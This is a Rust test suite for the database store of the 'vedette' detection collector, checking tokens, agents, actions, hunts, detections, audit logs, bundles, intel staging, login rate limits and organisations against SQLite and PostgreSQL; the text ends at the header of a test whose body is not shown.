//! One test suite for every store: each test runs against SQLite (a temp file) and PostgreSQL
//! (a database of its own, created and dropped around the test: `vedette_tests::PgDb`, at
//! `VEDETTE_TEST_POSTGRES`); where that is not set the PostgreSQL half says so and is skipped
//! (`.ci/run` sets it).

#![allow(clippy::too_many_lines)] // a test suite: each test is one scenario

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use vedette_proto::v1::{Detection, DetectionKind, DnsTarget, FileTarget, Inventory, detection};

use super::*;

/// A token row by its hash, creation and expiry times, uses and organisation.
fn token(
    hash: &str,
    created_at_ms: i64,
    expires_at_ms: i64,
    uses_left: u32,
    org: &str,
) -> TokenRow {
    TokenRow {
        hash: hash.into(),
        org: org.into(),
        uses_left,
        created_at_ms,
        expires_at_ms,
        created_by: "cert:operator".into(),
        revoked_at_ms: 0,
    }
}

fn detection(id: &str) -> Detection {
    Detection {
        id: id.into(),
        kind: 1,
        rule: "r".into(),
        target: Some(detection::Target::File(FileTarget {
            path: "/tmp/x".into(),
            ..Default::default()
        })),
        ..Default::default()
    }
}

/// Runs `test` on a fresh SQLite store and on a fresh PostgreSQL store; `test` gets the
/// store and a way to open it again (as a restarted or second collector would).
fn both(name: &str, test: impl Fn(Arc<dyn Store>, &dyn Fn() -> Arc<dyn Store>)) {
    let dir = tempfile::tempdir().unwrap();
    let sqlite = StoreLocation::Sqlite(dir.path().join("db"));
    let reopen = || open(&sqlite).unwrap();
    test(reopen(), &reopen);
    if let Some(db) = vedette_tests::PgDb::create(name) {
        let pg = StoreLocation::Postgres {
            url: db.url.clone(),
            ca_cert: None,
        };
        let reopen = || open(&pg).unwrap();
        test(reopen(), &reopen);
    }
}

#[test]
fn tokens_are_single_use_and_expire() {
    both("tokens", |s, _| {
        s.create_token(&token("h1", 0, 1_000, 1, "default"))
            .unwrap();
        s.create_token(&token("h2", 0, 1_000, 1, "default"))
            .unwrap();
        assert_eq!(
            s.enroll("nope", "a0", "h", 10).unwrap(),
            Err(TokenError::Unknown)
        );
        assert_eq!(
            s.enroll("h1", "a1", "h", 10).unwrap(),
            Ok("default".to_string())
        );
        assert_eq!(
            s.enroll("h1", "a2", "h", 10).unwrap(),
            Err(TokenError::UsedUp)
        );
        assert_eq!(
            s.enroll("h2", "a3", "h", 1_000).unwrap(),
            Err(TokenError::Expired)
        );
        assert_eq!(s.list_agents().unwrap().len(), 1);
    });
}

#[test]
fn an_action_changes_state_only_from_the_state_it_was_read_in() {
    both("actions", |s, reopen| {
        let action = |id: &str, agent: &str, state: &str, at: i64| ActionRow {
            id: id.into(),
            org: if agent == "b1" { "bravo" } else { "alpha" }.into(),
            agent_id: agent.into(),
            state: state.into(),
            created_at_ms: at,
            expires_at_ms: 1_000,
            info: vec![at as u8],
        };
        assert!(
            s.put_action(&action("x1", "a1", "pending", 1), None)
                .unwrap()
        );
        assert!(
            s.put_action(&action("x2", "a1", "approved", 2), None)
                .unwrap()
        );
        assert!(
            s.put_action(&action("x3", "b1", "approved", 3), None)
                .unwrap()
        );
        assert!(
            !s.put_action(&action("x1", "a1", "approved", 9), None)
                .unwrap(),
            "ids are unique"
        );
        let ids = |rows: Vec<ActionRow>| rows.into_iter().map(|r| r.id).collect::<Vec<_>>();
        assert_eq!(ids(s.due_actions("a1", 10).unwrap()), ["x2"]);
        assert_eq!(
            ids(s.due_actions("a1", 1_000).unwrap()),
            Vec::<String>::new(),
            "expired"
        );
        // Approved once: a second decision made from the same read changes nothing.
        assert!(
            s.put_action(&action("x1", "a1", "approved", 1), Some("pending"))
                .unwrap()
        );
        assert!(
            !s.put_action(&action("x1", "a1", "denied", 1), Some("pending"))
                .unwrap()
        );
        assert_eq!(ids(s.due_actions("a1", 10).unwrap()), ["x1", "x2"]);
        assert!(
            s.put_action(&action("x2", "a1", "sent", 2), Some("approved"))
                .unwrap()
        );
        assert_eq!(
            ids(s.due_actions("a1", 10).unwrap()),
            ["x1", "x2"],
            "sent, no outcome yet"
        );
        assert!(
            s.put_action(&action("x2", "a1", "done", 2), Some("sent"))
                .unwrap()
        );
        assert_eq!(ids(s.due_actions("a1", 10).unwrap()), ["x1"]);
        let s = reopen();
        assert_eq!(s.action("x2").unwrap().unwrap().state, "done");
        assert_eq!(s.action("x2").unwrap().unwrap().info, vec![2u8]);
        assert!(s.action("nope").unwrap().is_none());
        assert_eq!(ids(s.list_actions(None).unwrap()), ["x3", "x2", "x1"]);
        assert_eq!(ids(s.list_actions(Some("bravo")).unwrap()), ["x3"]);
    });
}

#[test]
fn an_agents_rule_profile_replaces_its_last_and_is_listed_by_organisation() {
    both("rule_profiles", |s, reopen| {
        for (hash, agent, org) in [("ta", "a1", "alpha"), ("tb", "b1", "bravo")] {
            s.create_token(&token(hash, 0, i64::MAX, 1, org)).unwrap();
            s.enroll(hash, agent, "host", 1).unwrap().unwrap();
        }
        assert!(s.put_rule_profile("a1", b"first").unwrap());
        assert!(s.put_rule_profile("b1", b"other").unwrap());
        assert!(s.put_rule_profile("a1", b"second").unwrap());
        assert!(!s.put_rule_profile("nobody", b"x").unwrap(), "not enrolled");
        let s = reopen();
        assert_eq!(
            s.rule_profiles(None).unwrap(),
            [
                ("a1".to_string(), b"second".to_vec()),
                ("b1".to_string(), b"other".to_vec())
            ]
        );
        assert_eq!(
            s.rule_profiles(Some("bravo")).unwrap(),
            [("b1".to_string(), b"other".to_vec())]
        );
        assert!(s.rule_profiles(Some("charlie")).unwrap().is_empty());
    });
}

#[test]
fn a_hunt_is_answered_once_per_agent_and_only_until_it_expires() {
    both("hunts", |s, reopen| {
        let hunt = |id: &str, org: &str, expires_at_ms: i64| HuntRow {
            id: id.into(),
            org: org.into(),
            created_by: "cert:op".into(),
            created_at_ms: 10,
            expires_at_ms,
            request: id.as_bytes().to_vec(),
            ..Default::default()
        };
        let agents = ["a1".to_string(), "a2".into(), "a3".into()];
        s.create_hunt(&hunt("h1", "acme", 1_000), &agents).unwrap();
        s.create_hunt(&hunt("h2", "", 50), &agents[..1]).unwrap();
        s.create_hunt(&hunt("h3", "other", 1_000), &[]).unwrap();
        let ids = |v: Vec<HuntRow>| v.into_iter().map(|h| h.id).collect::<Vec<_>>();
        assert_eq!(ids(s.pending_hunts("a1", 20).unwrap()), ["h1", "h2"]);
        // Expired: asked no more.
        assert_eq!(ids(s.pending_hunts("a1", 60).unwrap()), ["h1"]);
        assert!(s.answer_hunt("h1", "a1", 30, b"first").unwrap());
        assert!(!s.answer_hunt("h1", "a1", 31, b"again").unwrap());
        assert!(!s.answer_hunt("h1", "a9", 31, b"never asked").unwrap());
        assert_eq!(ids(s.pending_hunts("a1", 40).unwrap()), ["h2"]);
        assert_eq!(ids(s.pending_hunts("a2", 40).unwrap()), ["h1"]);
        let s = reopen();
        let (h, rows) = s.hunt("h1").unwrap().unwrap();
        assert_eq!((h.asked, h.answered, h.request), (3, 1, b"h1".to_vec()));
        assert_eq!(rows.len(), 3);
        assert_eq!(
            (rows[0].answered_at_ms, &rows[0].answer[..]),
            (30, &b"first"[..])
        );
        assert_eq!(rows[1].answered_at_ms, 0);
        assert_eq!(ids(s.list_hunts(Some("acme")).unwrap()), ["h1"]);
        let all = s.list_hunts(None).unwrap();
        assert_eq!(all.len(), 3);
        assert_eq!(all.iter().find(|h| h.id == "h3").unwrap().asked, 0);
        assert!(s.hunt("nope").unwrap().is_none());
    });
}

#[test]
fn a_revoked_token_enrolls_nothing_and_is_listed_with_its_creator() {
    both("token_revoke", |s, _| {
        s.create_token(&token("r1", 5, i64::MAX, 2, "default"))
            .unwrap();
        assert!(s.revoke_token("r1", 20).unwrap());
        assert!(!s.revoke_token("r1", 30).unwrap(), "revoked once");
        assert!(!s.revoke_token("none", 30).unwrap());
        assert_eq!(s.check_token("r1", 40).unwrap(), Err(TokenError::Revoked));
        assert_eq!(
            s.enroll("r1", "a1", "h", 40).unwrap(),
            Err(TokenError::Revoked)
        );
        let listed = s.list_tokens().unwrap();
        assert_eq!(listed.len(), 1);
        assert_eq!(listed[0].revoked_at_ms, 20);
        assert_eq!(listed[0].uses_left, 2);
        assert_eq!(listed[0].created_by, "cert:operator");
    });
}

#[test]
fn a_removed_agent_is_revoked_and_marked_and_an_org_renames_and_goes_with_its_tokens() {
    both("lifecycle", |s, _| {
        s.create_token(&token("t", 0, i64::MAX, 1, "default"))
            .unwrap();
        s.enroll("t", "a1", "h", 1).unwrap().unwrap();
        assert!(s.remove_agent("a1", 50).unwrap());
        assert!(!s.remove_agent("nobody", 50).unwrap());
        let a = s.agent("a1").unwrap().unwrap();
        assert!(a.revoked);
        assert_eq!(a.removed_at_ms, 50);

        let org = OrgRow {
            name: "old".into(),
            stix_id: "identity--x".into(),
            share: "full".into(),
            tlp: "amber".into(),
            ..OrgRow::default()
        };
        assert!(s.create_org(&org).unwrap());
        s.create_token(&token("o", 0, i64::MAX, 1, "old")).unwrap();
        assert!(!s.rename_org("old", "default").unwrap(), "a taken name");
        assert!(s.rename_org("old", "new").unwrap());
        assert!(
            !s.rename_org("old", "other").unwrap(),
            "gone under its old name"
        );
        let tokens = s.list_tokens().unwrap();
        assert_eq!(tokens.iter().find(|t| t.hash == "o").unwrap().org, "new");
        assert_eq!(s.remove_org("new", 60).unwrap(), Some(1));
        assert_eq!(s.remove_org("new", 60).unwrap(), None);
        assert_eq!(s.check_token("o", 70).unwrap(), Err(TokenError::Revoked));
        assert!(!s.list_orgs().unwrap().iter().any(|o| o.name == "new"));
    });
}

#[test]
fn the_audit_log_keeps_entries_in_order_and_by_organisation() {
    both("audit", |s, _| {
        for (i, org) in ["a", "b", "a", ""].iter().enumerate() {
            s.record_audit(&AuditRow {
                at_ms: 100 + i as i64,
                actor: "cert:operator".into(),
                action: "token.create".into(),
                target: format!("t{i}"),
                outcome: "ok".into(),
                org: org.to_string(),
                ..AuditRow::default()
            })
            .unwrap();
        }
        let all = s.list_audit(0, None, 100).unwrap();
        let targets: Vec<&str> = all.iter().map(|e| e.target.as_str()).collect();
        assert_eq!(targets, ["t0", "t1", "t2", "t3"]);
        assert!(all.windows(2).all(|w| w[0].seq < w[1].seq));
        let of_a = s.list_audit(0, Some("a"), 100).unwrap();
        assert_eq!(of_a.len(), 2);
        assert_eq!(s.list_audit(102, None, 100).unwrap().len(), 2);
        let last = s.list_audit(0, None, 1).unwrap();
        assert_eq!(last[0].target, "t3", "the most recent");
        let after = s.audit_after(all[1].seq, i64::MAX, 10).unwrap();
        assert_eq!(
            s.audit_after(0, 102, 10).unwrap().len(),
            2,
            "made before 102"
        );
        assert_eq!(after.len(), 2);
        assert_eq!(after[0].target, "t2");
    });
}

#[test]
fn one_token_used_by_many_at_once_enrolls_as_many_as_it_allows() {
    both("token_race", |s, reopen| {
        s.create_token(&token("t", 0, i64::MAX, 3, "default"))
            .unwrap();
        // Eight "collectors" (their own store handles), all at once.
        let stores: Vec<Arc<dyn Store>> = (0..8).map(|_| reopen()).collect();
        let barrier = std::sync::Barrier::new(stores.len());
        let ok = std::thread::scope(|scope| {
            let handles: Vec<_> = stores
                .iter()
                .enumerate()
                .map(|(i, st)| {
                    let barrier = &barrier;
                    scope.spawn(move || {
                        barrier.wait();
                        st.enroll("t", &format!("a{i}"), "h", 1).unwrap().is_ok()
                    })
                })
                .collect();
            handles
                .into_iter()
                .filter_map(|h| h.join().ok())
                .filter(|ok| *ok)
                .count()
        });
        assert_eq!(ok, 3);
        assert_eq!(s.list_agents().unwrap().len(), 3);
    });
}

#[test]
fn detections_are_stored_once_and_survive_reopen() {
    both("detections", |s, reopen| {
        s.create_token(&token("h", 0, i64::MAX, 1, "default"))
            .unwrap();
        s.enroll("h", "a", "host", 1).unwrap().unwrap();
        assert_eq!(
            s.insert_detections("a", &[detection("d1"), detection("d2")], 5)
                .unwrap(),
            2
        );
        // A resend, through another handle (another collector): stored once.
        assert_eq!(
            reopen()
                .insert_detections("a", &[detection("d2"), detection("d3")], 6)
                .unwrap(),
            1
        );
        drop(s);
        let s = reopen();
        let all = s
            .list_detections(&DetectionFilter {
                limit: 10,
                max_bytes: usize::MAX,
                ..Default::default()
            })
            .unwrap();
        assert_eq!(all.next_before_seq, None);
        let all = all.detections;
        let ids: Vec<_> = all
            .iter()
            .map(|d| d.detection.as_ref().unwrap().id.clone())
            .collect();
        assert_eq!(ids, ["d1", "d2", "d3"]);
        assert_eq!(all[0].hostname, "host");
        assert_eq!(all[0].received_at_ms, 5);
        assert!(all[0].seq < all[1].seq && all[1].seq < all[2].seq);
        let last = s
            .list_detections(&DetectionFilter {
                limit: 1,
                max_bytes: usize::MAX,
                ..Default::default()
            })
            .unwrap();
        assert_eq!(last.detections.len(), 1);
        assert_eq!(last.detections[0].detection.as_ref().unwrap().id, "d3");
        // Paging back from there gives the others, then says nothing is left.
        assert_eq!(last.next_before_seq, Some(all[2].seq));
        let rest = s
            .list_detections(&DetectionFilter {
                limit: 10,
                max_bytes: usize::MAX,
                before_seq: last.next_before_seq,
                ..Default::default()
            })
            .unwrap();
        let ids: Vec<_> = rest
            .detections
            .iter()
            .map(|d| d.detection.as_ref().unwrap().id.clone())
            .collect();
        assert_eq!(
            (ids, rest.next_before_seq),
            (vec!["d1".into(), "d2".into()], None)
        );
        // A byte budget smaller than one detection still gives one, and the page to go on.
        let small = s
            .list_detections(&DetectionFilter {
                limit: 10,
                max_bytes: 1,
                ..Default::default()
            })
            .unwrap();
        assert_eq!(small.detections.len(), 1);
        assert_eq!(small.next_before_seq, Some(all[2].seq));
        let since = s
            .list_detections(&DetectionFilter {
                since_ms: Some(6),
                agent_id: Some("a".into()),
                limit: 10,
                max_bytes: usize::MAX,
                ..Default::default()
            })
            .unwrap();
        assert_eq!(since.detections.len(), 1);
        assert_eq!(s.count_detections().unwrap(), 3);
        // By a label the agent has now: the whole label, never a part of another.
        let labelled = |label: &str| {
            s.list_detections(&DetectionFilter {
                label: Some(label.into()),
                limit: 10,
                max_bytes: usize::MAX,
                ..Default::default()
            })
            .unwrap()
            .detections
            .len()
        };
        assert_eq!(labelled("web"), 0);
        s.set_agent_labels("a", &["canary".into(), "web_1".into()])
            .unwrap();
        assert_eq!((labelled("web_1"), labelled("canary")), (3, 3));
        assert_eq!(
            (labelled("web"), labelled("webX1"), labelled("canar")),
            (0, 0, 0)
        );
    });
}

/// A DNS incident's report: its id, the queries counted so far, and its description.
fn dns_seen(id: &str, count: u32, answers: &[&str]) -> Detection {
    Detection {
        id: id.into(),
        kind: DetectionKind::Dns as i32,
        rule: "c2.example".into(),
        observed_at_ms: 7,
        description: format!("{count} queries"),
        target: Some(detection::Target::Dns(DnsTarget {
            name: "c2.example".into(),
            pid: 42,
            attributed: true,
            count,
            answers: answers.iter().map(|a| (*a).to_string()).collect(),
            ..Default::default()
        })),
        ..Default::default()
    }
}

#[test]
fn a_later_report_of_an_incident_raises_its_count_and_it_stays_one_detection() {
    both("recount", |s, reopen| {
        enrolled(&*s, "default", &["a", "b"]);
        let dns = |s: &dyn Store| -> Vec<(String, u32, String, Vec<String>, i64)> {
            let page = s
                .list_detections(&DetectionFilter {
                    limit: 10,
                    max_bytes: usize::MAX,
                    ..Default::default()
                })
                .unwrap();
            page.detections
                .iter()
                .map(|d| {
                    let d = d.detection.as_ref().unwrap();
                    let Some(detection::Target::Dns(q)) = &d.target else {
                        panic!("{d:?}")
                    };
                    (
                        d.id.clone(),
                        q.count,
                        d.description.clone(),
                        q.answers.clone(),
                        d.observed_at_ms,
                    )
                })
                .collect()
        };
        assert_eq!(
            s.insert_detections("a", &[dns_seen("q1", 1, &["192.0.2.1"])], 5)
                .unwrap(),
            1
        );
        // The window's count, through another collector: no new detection, the count raised,
        // the first report's answers and time kept.
        assert_eq!(
            reopen()
                .insert_detections("a", &[dns_seen("q1", 25, &[])], 6)
                .unwrap(),
            0
        );
        let one = dns(&*s);
        assert_eq!(
            one,
            [(
                "q1".to_string(),
                25,
                "25 queries".to_string(),
                vec!["192.0.2.1".to_string()],
                7
            )]
        );
        // A resend of an older count lowers nothing; another agent's report of the same id
        // changes nothing of this one's.
        s.insert_detections("a", &[dns_seen("q1", 3, &[])], 7)
            .unwrap();
        s.insert_detections("b", &[dns_seen("q1", 99, &[])], 7)
            .unwrap();
        assert_eq!(dns(&*s)[0].1, 25);
        // First report and count in one batch (the agent was cut off for the whole window):
        // one detection, with the count.
        assert_eq!(
            s.insert_detections(
                "a",
                &[dns_seen("q2", 1, &["192.0.2.2"]), dns_seen("q2", 9, &[])],
                8
            )
            .unwrap(),
            1
        );
        let q2: Vec<_> = dns(&*s).into_iter().filter(|d| d.0 == "q2").collect();
        assert_eq!(q2.len(), 1, "{q2:?}");
        assert_eq!(
            (q2[0].1, q2[0].3.clone()),
            (9, vec!["192.0.2.2".to_string()])
        );
    });
}

#[test]
fn retention_deletes_old_detections_in_batches() {
    both("retention", |s, _| {
        s.create_token(&token("h", 0, i64::MAX, 1, "default"))
            .unwrap();
        s.enroll("h", "a", "host", 1).unwrap().unwrap();
        for (i, at) in [10, 10, 10, 20, 30].into_iter().enumerate() {
            s.insert_detections("a", &[detection(&format!("d{i}"))], at)
                .unwrap();
        }
        assert_eq!(s.delete_detections_before(20, 2).unwrap(), 2);
        assert_eq!(s.delete_detections_before(20, 2).unwrap(), 1);
        assert_eq!(s.delete_detections_before(20, 2).unwrap(), 0);
        let left: Vec<i64> = s
            .list_detections(&DetectionFilter {
                limit: 10,
                max_bytes: usize::MAX,
                ..Default::default()
            })
            .unwrap()
            .detections
            .iter()
            .map(|d| d.received_at_ms)
            .collect();
        assert_eq!(left, [20, 30]);
    });
}

#[test]
fn agents_record_connections_heartbeats_bundles_and_revocation() {
    both("agents", |s, _| {
        s.create_token(&token("h", 0, i64::MAX, 1, "default"))
            .unwrap();
        s.enroll("h", "a", "host", 1).unwrap().unwrap();
        let inv = Inventory {
            hostname: "web-1".into(),
            os: "linux".into(),
            ..Default::default()
        };
        s.agent_connected("a", &inv, 4, 10).unwrap();
        let counters = BTreeMap::from([("files_scanned".to_string(), 7u64)]);
        s.agent_heartbeat("a", 5, &counters, 0, 20).unwrap();
        s.agent_heartbeat("a", 3, &counters, -3_600_000, 21)
            .unwrap();
        let a = s.agent("a").unwrap().unwrap();
        assert_eq!(
            (
                a.hostname.as_str(),
                a.connected,
                a.first_seen_ms,
                a.last_seen_ms
            ),
            ("web-1", true, 10, 21)
        );
        assert_eq!(a.dropped_total, 5, "the dropped total never decreases");
        assert_eq!(a.counters, counters);
        assert_eq!(a.clock_skew_ms, -3_600_000, "the last heartbeat's");
        assert_eq!(a.bundle_version, 4);
        s.agent_bundle_status("a", 6, false, "bad rule", 30)
            .unwrap();
        let a = s.agent("a").unwrap().unwrap();
        assert_eq!(
            (a.bundle_failed_version, a.bundle_error.as_str()),
            (6, "bad rule")
        );
        s.agent_bundle_status("a", 6, true, "", 31).unwrap();
        let a = s.agent("a").unwrap().unwrap();
        assert_eq!((a.bundle_version, a.bundle_failed_version), (6, 0));
        assert!(a.bundle_error.is_empty());
        s.agent_disconnected("a", 15).unwrap();
        let a = s.agent("a").unwrap().unwrap();
        assert!(!a.connected);
        assert_eq!(a.last_seen_ms, 21);
        assert!(s.revoke_agent("a", 40).unwrap());
        let refused = s.insert_detections("a", &[detection("late")], 41);
        assert!(
            matches!(refused, Err(StoreError::Revoked(_))),
            "{refused:?}"
        );
        assert!(matches!(
            s.insert_detections("nobody", &[detection("x")], 41),
            Err(StoreError::Revoked(_))
        ));
        assert_eq!(s.count_detections().unwrap(), 0);
        assert!(!s.revoke_agent("nobody", 40).unwrap());
        assert!(s.agent("a").unwrap().unwrap().revoked);
        assert!(s.agent("nobody").unwrap().is_none());
    });
}

#[test]
fn bundles_only_move_forward() {
    both("bundles", |s, _| {
        let b = |version| BundleRow {
            version,
            name: format!("b{version}"),
            digest: "d".into(),
            signer_key: vec![1, 2],
            files: 2,
            content: vec![9; 10],
            signature: vec![3],
            ..Default::default()
        };
        assert!(s.bundle(0).unwrap().is_none());
        assert_eq!(s.insert_bundle(&b(2)).unwrap(), Ok(()));
        assert_eq!(s.insert_bundle(&b(2)).unwrap(), Err(2));
        assert_eq!(s.insert_bundle(&b(1)).unwrap(), Err(2));
        assert_eq!(s.insert_bundle(&b(3)).unwrap(), Ok(()));
        let latest = s.bundle(0).unwrap().unwrap();
        assert_eq!((latest.version, latest.size), (3, 10));
        assert_eq!(latest.content, vec![9; 10]);
        assert_eq!(s.bundle(2).unwrap().unwrap().name, "b2");
        let all = s.list_bundles().unwrap();
        assert_eq!(all.iter().map(|b| b.version).collect::<Vec<_>>(), [3, 2]);
        assert!(all[0].content.is_empty() && all[0].size == 10);
    });
}

#[test]
fn locations_parse_and_passwords_are_not_shown() {
    let base = Path::new("/etc/vedette");
    assert_eq!(
        StoreLocation::parse("vedette.db", base),
        Ok(StoreLocation::Sqlite("/etc/vedette/vedette.db".into()))
    );
    assert_eq!(
        StoreLocation::parse("sqlite:/var/lib/v.db", base),
        Ok(StoreLocation::Sqlite("/var/lib/v.db".into()))
    );
    let pg = StoreLocation::parse("postgres://v:secret@db:5432/vedette", base).unwrap();
    assert_eq!(pg.display(), "postgres://v:***@db:5432/vedette");
    let e = StoreLocation::parse("mysql://u:pw@h/db", base).unwrap_err();
    assert_eq!(
        e,
        crate::store::StoreUrlError::Scheme("mysql://u:***@h/db".into())
    );
    assert!(e.to_string().contains("postgres://"), "{e}");
    assert_eq!(
        vedette_tests::url_with_db("postgres://root@127.0.0.1:5432/test?sslmode=disable", "x"),
        "postgres://root@127.0.0.1:5432/x?sslmode=disable"
    );
}

#[test]
fn intel_staging_adds_updates_revokes_refuses_and_pages() {
    use crate::intel::{IntelBatch, stage};
    use crate::store::StagingCounts;
    fn line(id: &str, pattern: &str) -> String {
        serde_json::json!({"source": "stix", "id": id, "origin": "o", "pattern_type": "stix",
            "pattern": pattern})
        .to_string()
    }
    both("intel_staging", |store, _| {
        let store = store.as_ref();
        let lines = [
            line("indicator--1", "[file:name = 'a']"),
            line("indicator--2", "[file:name = 'b']"),
            line("indicator--3", "[file:size > 1]"),
        ];
        let batch = |lines: &'static [String], revoked: &'static [String], continued| IntelBatch {
            origin: "bundle.json",
            kind: "import",
            lines,
            revoked,
            skipped: 1,
            rejected: 0,
            continued,
            cursor: if continued {
                "2026-11-26T00:00:00Z"
            } else {
                ""
            },
        };
        let lines: &'static [String] = Box::leak(Box::new(lines));
        let s = stage(store, batch(lines, &[], false), 1).unwrap();
        assert_eq!(
            s.counts,
            StagingCounts {
                added: 2,
                updated: 0,
                removed: 0
            }
        );
        assert_eq!(s.refused.len(), 1);
        assert!(
            s.refused[0].starts_with("indicator--3: "),
            "{:?}",
            s.refused
        );
        let again: &'static [String] = Box::leak(Box::new([
            line("indicator--2", "[file:name = 'c']"),
            lines[0].clone(),
        ]));
        let revoked: &'static [String] = Box::leak(Box::new(["indicator--1".to_string()]));
        let s = stage(store, batch(again, revoked, true), 2).unwrap();
        assert_eq!(
            s.counts,
            StagingCounts {
                added: 0,
                updated: 1,
                removed: 1
            }
        );
        let page = store.list_intel(("", ""), 10).unwrap();
        assert_eq!(page.len(), 1);
        assert!(page[0].line.contains("'c'"));
        assert!(
            store
                .list_intel(("stix", "indicator--2"), 10)
                .unwrap()
                .is_empty()
        );
        let src = store.intel_sources().unwrap();
        assert_eq!(src.len(), 1);
        assert_eq!(
            (
                src[0].accepted,
                src[0].skipped,
                src[0].rejected,
                src[0].revoked
            ),
            (4, 2, 1, 1)
        );
        assert_eq!(src[0].staged, 1);
        store
            .intel_error("bundle.json", "import", "feed down", 3)
            .unwrap();
        assert_eq!(store.intel_sources().unwrap()[0].last_error, "feed down");
        assert_eq!(store.intel_sources().unwrap()[0].staged, 1);
    });
}

#[test]
fn sign_in_attempts_are_counted_atomically_against_each_budget_in_turn() {
    both("logins", |s, reopen| {
        let window = 60_000;
        let budgets = |user: &str, ip: &str| {
            vec![
                (format!("ip:{ip}"), 100),
                ("all".to_string(), 1000),
                (format!("user:{user}"), 10),
            ]
        };
        // 300 at once, through two handles (two collectors): 10 pass the account's budget.
        let other = reopen();
        let passed = std::sync::atomic::AtomicUsize::new(0);
        std::thread::scope(|scope| {
            for i in 0..300 {
                let (store, passed, budgets) =
                    (if i % 2 == 0 { &s } else { &other }, &passed, &budgets);
                scope.spawn(move || {
                    let ip = format!("192.0.2.{}", i % 50);
                    if store
                        .count_login_attempt(&budgets("alice", &ip), 1_000, window)
                        .unwrap()
                    {
                        passed.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    }
                });
            }
        });
        assert_eq!(passed.into_inner(), 10);
        // Another account is not held up by alice's; a sign-in clears only the account's count.
        assert!(
            s.count_login_attempt(&budgets("bob", "192.0.2.1"), 2_000, window)
                .unwrap()
        );
        s.clear_login_attempts("user:alice").unwrap();
        assert!(
            s.count_login_attempt(&budgets("alice", "192.0.2.1"), 2_000, window)
                .unwrap()
        );
        // One address: its 100 in the window, then refused before the rest is counted.
        for n in 0..100 {
            let ok = s
                .count_login_attempt(&budgets(&format!("u{n}"), "198.51.100.9"), 3_000, window)
                .unwrap();
            assert!(ok, "attempt {n}");
        }
        assert!(
            !s.count_login_attempt(&budgets("z", "198.51.100.9"), 3_000, window)
                .unwrap()
        );
        // The window ends: counted from one again.
        assert!(
            s.count_login_attempt(&budgets("z", "198.51.100.9"), 3_000 + window, window)
                .unwrap()
        );
    });
}

#[test]
fn a_renewed_certificate_in_use_retires_the_ones_before_it() {
    both("retire", |s, _| {
        let cert = |serial: &str, subject: &str, at: i64| CertRow {
            serial: serial.into(),
            kind: "agent".into(),
            subject: subject.into(),
            recorded_at_ms: at,
            ..Default::default()
        };
        for c in [
            cert("a1", "agent-a", 10),
            cert("a2", "agent-a", 20),
            cert("a3", "agent-a", 30),
            cert("b1", "agent-b", 10),
        ] {
            s.record_cert(&c).unwrap();
        }
        // a2 is used: a1 goes, a3 (newer) and agent-b's stay.
        assert_eq!(s.retire_older_certs("agent-a", "a2", 99).unwrap(), ["a1"]);
        assert!(
            s.retire_older_certs("agent-a", "a2", 100)
                .unwrap()
                .is_empty()
        );
        let mut revoked = s.revoked_serials().unwrap();
        revoked.sort();
        assert_eq!(revoked, ["a1"]);
        // A certificate never recorded retires nothing.
        assert!(
            s.retire_older_certs("agent-a", "zz", 101)
                .unwrap()
                .is_empty()
        );
        assert_eq!(s.retire_older_certs("agent-a", "a3", 102).unwrap(), ["a2"]);
    });
}

#[test]
fn organisations_hold_their_agents_tokens_detections_and_certificates() {
    both("orgs", |s, reopen| {
        // Every store starts with the default organisation, sharing in full; opening it again
        // (a restart, a second collector) keeps its identity.
        let orgs = s.list_orgs().unwrap();
        assert_eq!(orgs.len(), 1, "{orgs:?}");
        assert_eq!(orgs[0].name, crate::orgs::DEFAULT_ORG);
        assert_eq!(orgs[0].share, "full");
        assert!(orgs[0].stix_id.starts_with("identity--"));
        assert_eq!(reopen().list_orgs().unwrap()[0].stix_id, orgs[0].stix_id);

        let alpha = OrgRow {
            name: "alpha".into(),
            stix_id: crate::orgs::new_stix_id(),
            sector: "energy".into(),
            country: "DE".into(),
            share: "anonymised".into(),
            tlp: "amber".into(),
            created_at_ms: 5,
            agents: 0,
            response_approval: "none".into(),
        };
        assert!(s.create_org(&alpha).unwrap());
        assert!(
            !s.create_org(&OrgRow {
                stix_id: crate::orgs::new_stix_id(),
                ..alpha.clone()
            })
            .unwrap()
        );
        s.create_token(&token("ta", 0, i64::MAX, 1, "alpha"))
            .unwrap();
        s.create_token(&token("td", 0, i64::MAX, 1, "default"))
            .unwrap();
        assert_eq!(s.check_token("ta", 1).unwrap(), Ok("alpha".to_string()));
        assert_eq!(
            s.enroll("ta", "a1", "h1", 1).unwrap(),
            Ok("alpha".to_string())
        );
        assert_eq!(
            s.enroll("td", "d1", "h2", 1).unwrap(),
            Ok("default".to_string())
        );
        assert_eq!(s.agent("a1").unwrap().unwrap().org, "alpha");
        assert_eq!(s.agent("d1").unwrap().unwrap().org, "default");

        s.insert_detections("a1", &[detection("x-a")], 10).unwrap();
        s.insert_detections("d1", &[detection("x-d")], 10).unwrap();
        let only_alpha = s
            .list_detections(&DetectionFilter {
                org: Some("alpha".into()),
                limit: 10,
                max_bytes: usize::MAX,
                ..Default::default()
            })
            .unwrap();
        let ids: Vec<_> = only_alpha
            .detections
            .iter()
            .map(|d| (d.detection.as_ref().unwrap().id.as_str(), d.org.as_str()))
            .collect();
        assert_eq!(ids, [("x-a", "alpha")]);
        let exported = s.detections_after(0, i64::MAX, 10).unwrap();
        let orgs: Vec<_> = exported.iter().map(|(_, d)| d.org.as_str()).collect();
        assert_eq!(orgs, ["alpha", "default"]);

        let listed = s.list_orgs().unwrap();
        let counts: Vec<_> = listed.iter().map(|o| (o.name.as_str(), o.agents)).collect();
        assert_eq!(counts, [("alpha", 1), ("default", 1)]);
        assert_eq!(listed[0].sector, "energy");
        assert!(
            s.update_org(&OrgRow {
                share: "none".into(),
                tlp: "red".into(),
                response_approval: "two-person".into(),
                ..alpha.clone()
            })
            .unwrap()
        );
        assert!(
            !s.update_org(&OrgRow {
                name: "nobody".into(),
                ..alpha.clone()
            })
            .unwrap()
        );
        let alpha_now = s.list_orgs().unwrap().remove(0);
        assert_eq!(
            (
                alpha_now.share.as_str(),
                alpha_now.tlp.as_str(),
                alpha_now.response_approval.as_str()
            ),
            ("none", "red", "two-person")
        );
        assert_eq!(alpha_now.stix_id, alpha.stix_id);

        s.record_cert(&CertRow {
            serial: "0a".into(),
            kind: "client".into(),
            subject: "carol".into(),
            roles: "operator".into(),
            org: "alpha".into(),
            ..Default::default()
        })
        .unwrap();
        assert_eq!(s.list_certs().unwrap()[0].org, "alpha");
    });
}

#[test]
fn detections_filter_by_kind_rule_time_text_and_hash() {
